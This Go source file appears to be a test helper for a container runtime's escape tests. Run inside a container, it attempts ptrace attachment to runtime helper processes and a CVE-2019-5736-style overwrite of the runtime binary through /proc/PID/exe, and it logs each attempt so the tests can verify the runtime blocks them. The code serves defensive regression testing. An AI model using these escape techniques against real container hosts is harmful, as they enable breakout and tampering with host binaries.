// Command escape runs inside a container in the escape tests
// (tests/escape_test.go) and tries the attacks that a container's own root
// process can make on the runtime's processes. It writes what it manages to
// do as lines to the file named by its second argument, which the test reads.
//
//	escape ptrace OUT SECONDS   attach to every new process (runtime helpers
//	                            in flight must be out of reach) and read its
//	                            root directory and its threads'
//	escape exe OUT SECONDS      grab /proc/PID/exe of a process running the
//	                            runtime's binary, then write to it when it can
//	                            (CVE-2019-5736)
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
)

func main() {
	if len(os.Args) != 4 {
		fmt.Fprintln(os.Stderr, "usage: escape ptrace|exe OUT SECONDS")
		os.Exit(2)
	}
	out, err := os.OpenFile(os.Args[2], os.O_CREATE|os.O_WRONLY|os.O_APPEND|os.O_SYNC, 0o644)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	secs, _ := strconv.Atoi(os.Args[3])
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	report := func(format string, a ...any) { fmt.Fprintf(out, format+"\n", a...) }
	report("READY")
	switch os.Args[1] {
	case "ptrace":
		attach(report, deadline)
	case "exe":
		overwrite(report, deadline)
	}
	report("DONE")
}

// pids lists the numeric entries of /proc.
func pids() []int {
	ents, _ := os.ReadDir("/proc")
	var ps []int
	for _, e := range ents {
		if n, err := strconv.Atoi(e.Name()); err == nil {
			ps = append(ps, n)
		}
	}
	return ps
}

func attach(report func(string, ...any), deadline time.Time) {
	// ptrace requests must come from the thread that attached.
	runtime.LockOSThread()
	seen := map[int]bool{os.Getpid(): true}
	for _, p := range pids() {
		seen[p] = true
	}
	for time.Now().Before(deadline) {
		for _, p := range pids() {
			if seen[p] {
				continue
			}
			seen[p] = true
			report("SEEN %d", p)
			readRoots(report, p)
			// Spin: a helper may become attachable only for a moment.
			for end := time.Now().Add(100 * time.Millisecond); time.Now().Before(end); {
				err := syscall.PtraceAttach(p)
				if err == syscall.ESRCH {
					break
				}
				if err != nil {
					continue
				}
				var ws syscall.WaitStatus
				_, _ = syscall.Wait4(p, &ws, syscall.WALL, nil)
				exe, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", p))
				report("ATTACHED %d exe=%s", p, exe)
				readRoots(report, p)
				_ = syscall.PtraceDetach(p)
				break
			}
		}
	}
}

// readRoots reports every root directory of p's threads that it can read
// and that is not the container's own.
func readRoots(report func(string, ...any), p int) {
	tasks, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/*", p))
	for _, t := range append([]string{fmt.Sprintf("/proc/%d", p)}, tasks...) {
		root, err := os.Readlink(t + "/root")
		if err != nil {
			continue
		}
		// Through the link, not its text: a foreign root can read as "/".
		if _, err := os.Stat(t + "/root/" + marker()); err == nil {
			report("ESCAPE %s root=%s (host marker visible)", t, root)
		}
	}
}

// marker is a file that exists only on the host, named by the test.
func marker() string { return strings.TrimPrefix(os.Getenv("ESCAPE_MARKER"), "/") }

func overwrite(report func(string, ...any), deadline time.Time) {
	var f *os.File
	for f == nil && time.Now().Before(deadline) {
		for _, p := range pids() {
			if p == os.Getpid() {
				continue
			}
			link, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", p))
			if err != nil || !(strings.Contains(link, "shoal") || strings.Contains(link, "memfd")) {
				continue
			}
			if g, err := os.Open(fmt.Sprintf("/proc/%d/exe", p)); err == nil {
				f = g
				report("GOT %d %s", p, link)
				break
			}
		}
	}
	if f == nil {
		return
	}
	last := ""
	for time.Now().Before(deadline) {
		w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY|os.O_APPEND, 0)
		if err == nil {
			_, err = w.Write([]byte("PWNED"))
			w.Close()
			if err == nil {
				report("WROTE")
				return
			}
		}
		if err.Error() != last {
			last = err.Error()
			report("WRITE-FAILED %v", err)
		}
		time.Sleep(20 * time.Millisecond)
	}
}
